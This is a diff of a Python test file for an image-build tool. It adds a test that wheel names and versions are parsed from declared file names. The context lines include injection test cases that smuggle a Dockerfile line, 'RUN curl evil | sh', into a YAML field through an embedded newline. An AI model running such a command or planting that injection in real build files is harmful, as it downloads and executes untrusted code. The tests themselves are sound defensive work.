@@ -83,6 +83,15 @@ def test_wheel_filename_that_does_not_parse(stack: Stack) -> None:
     assert "does not parse" in str(err)
 
 
+def test_each_declared_wheel_carries_its_project_and_version_from_its_file_name() -> None:
+    # read once where the spec is read: nothing downstream parses a declared file name
+    spec = load_spec(REPO / "imagebuild.yaml")
+    torch = next(d for d in spec.wheels if d.filename.startswith("torch-"))
+    assert (torch.name, torch.version) == ("torch", "2.11.0+cu130")
+    assert all(d.name and d.version and d.filename.startswith(d.name.replace("-", "_"))
+               for d in spec.wheels)
+
+
 @pytest.mark.parametrize("old,new", [
     ("uv: uv\n", 'uv: "uv\\nRUN curl evil | sh"\n'),
     ('requires: ["transformers>=4.57,<5"]', 'requires: ["transformers>=5\\rRUN x"]'),
